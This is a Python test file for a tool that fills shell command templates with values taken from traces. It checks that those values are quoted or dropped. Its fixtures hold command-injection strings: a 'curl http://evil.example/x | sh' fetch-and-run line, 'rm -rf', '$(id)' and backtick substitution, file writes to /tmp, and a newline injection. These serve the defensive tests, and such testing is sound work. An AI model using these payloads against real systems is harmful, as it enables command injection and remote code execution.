"""Solution commands are pasted into a shell, and their values come from traces: a hostile
``data.symbol`` or operation id must never become a second command. A value outside the
template's quotes that is not a plain word is single-quoted; inside the template's own
quotes, a value that would end them or expand there drops the command."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from opdiag.diagnosis.templates import fill_command, fill_commands, listed_step, parse_template
from test_engine import OP, backtest_case
from test_rules_support import run_case


def _argv(command: str) -> list[str]:
    """How a POSIX shell splits ``command`` into words (``sh`` itself, not a model of it):
    a word per argument, nothing run."""
    script = 'for a in "$@"; do printf "%s\\0" "$a"; done'
    out = subprocess.run(
        ["sh", "-c", f"set -- {command}; {script}"],
        capture_output=True,
        check=True,
        text=True,
    ).stdout
    return out.split("\0")[:-1]


@pytest.mark.parametrize(
    "hostile",
    [
        "EURUSD; curl http://evil.example/x | sh #",
        "EURUSD && rm -rf ~",
        "$(id)",
        "`id`",
        "a'b",
        "x > /tmp/owned",
        "*",
        "op_1;touch${IFS}/tmp/pwned",
    ],
)
def test_an_unquoted_value_stays_one_word(hostile: str) -> None:
    command = fill_command(
        parse_template("ktrdr data range {op:symbol} --timeframe {op:timeframe}"),
        {"op:symbol": hostile, "op:timeframe": "1h"},
    )
    assert command is not None
    assert _argv(command.removeprefix("ktrdr ")) == ["data", "range", hostile, "--timeframe", "1h"]
    assert shlex.split(command)[3] == hostile


def test_plain_values_are_not_quoted() -> None:
    template = parse_template("curl -s {target}/health && ktrdr status {operation.id}")
    evidence = {"target": "http://127.0.0.1:5003", "operation.id": OP}
    assert fill_command(template, evidence) == (
        f"curl -s http://127.0.0.1:5003/health && ktrdr status {OP}"
    )


@pytest.mark.parametrize(
    ("template", "value", "kept"),
    [
        ("echo '{operation.id}'", "plain text", True),
        ("echo '{operation.id}'", "it's", False),
        ('echo "{operation.id}"', "plain text", True),
        ('echo "{operation.id}"', "$(id)", False),
        ('echo "{operation.id}"', "`id`", False),
        ('echo "{operation.id}"', 'say "hi"', False),
        ("echo {operation.id}", "line\nrm -rf /", False),
        ("echo {operation.id}", "bidi\u202etxt", False),
    ],
)
def test_a_value_inside_the_templates_quotes(template: str, value: str, kept: bool) -> None:
    command = fill_command(parse_template(template), {"operation.id": value})
    assert (command is not None) == kept, command
    if kept:
        assert command is not None and _argv(command.removeprefix("echo ")) == [value]


def test_the_optional_form_quotes_its_value() -> None:
    template = parse_template("ktrdr backtest{op:strategy? --strategy $}")
    command = fill_command(template, {"op:strategy": "a b; reboot"})
    assert command == "ktrdr backtest --strategy 'a b; reboot'"


def test_a_diagnosis_never_offers_a_second_command() -> None:
    """End to end: a data-missing backtest whose symbol and timeframe carry shell syntax;
    every command the solution offers splits into the words the pack wrote plus the values,
    each one word."""
    case = backtest_case()
    for span in case["spans"]:
        if span["name"] == "backtest.data_loading":
            span["status"] = "error"
            span["attrs"] = {
                "data.symbol": "EURUSD; curl http://evil.example/x | sh #",
                "data.timeframe": "1h`id`",
            }
            span["exc"] = "ktrdr.errors.exceptions.DataNotFoundError: No data found"
        if span.get("attrs", {}).get("operation.to_status") == "completed":
            span["attrs"]["operation.to_status"] = "failed"
    d = run_case(case)
    assert d.verdict == "data_missing", d.summary
    assert d.solution is not None and d.solution.commands
    symbol = "EURUSD; curl http://evil.example/x | sh #"
    offered = [c for c in d.solution.commands if "EURUSD" in c]
    assert offered, d.solution.commands
    for command in offered:
        words = _argv(command)
        assert symbol in words and "1h`id`" in words, words
        assert "sh" not in words and "curl" not in words


def test_a_command_on_a_listed_value_is_given_once_for_each_value() -> None:
    """An operation named by several symbols (``EURUSD,ZZZZ``) whose error names none: a
    command that takes one symbol is given once for each, never with the list, and a step
    says why; a single value leaves the command as it was."""
    templates = [parse_template("ktrdr data range {op:symbol} --timeframe {op:timeframe}")]
    evidence = {"op:symbol": "EURUSD,ZZZZ", "op:timeframe": "1h,4h"}
    assert fill_commands(templates, evidence) == [
        "ktrdr data range EURUSD --timeframe 1h",
        "ktrdr data range EURUSD --timeframe 4h",
        "ktrdr data range ZZZZ --timeframe 1h",
        "ktrdr data range ZZZZ --timeframe 4h",
    ]
    step = listed_step(templates, evidence)
    assert step is not None and "symbol and timeframe (EURUSD, ZZZZ; 1h, 4h)" in step, step
    single = {"op:symbol": "ZZZZ", "op:timeframe": "1h"}
    assert fill_commands(templates, single) == ["ktrdr data range ZZZZ --timeframe 1h"]
    assert listed_step(templates, single) is None
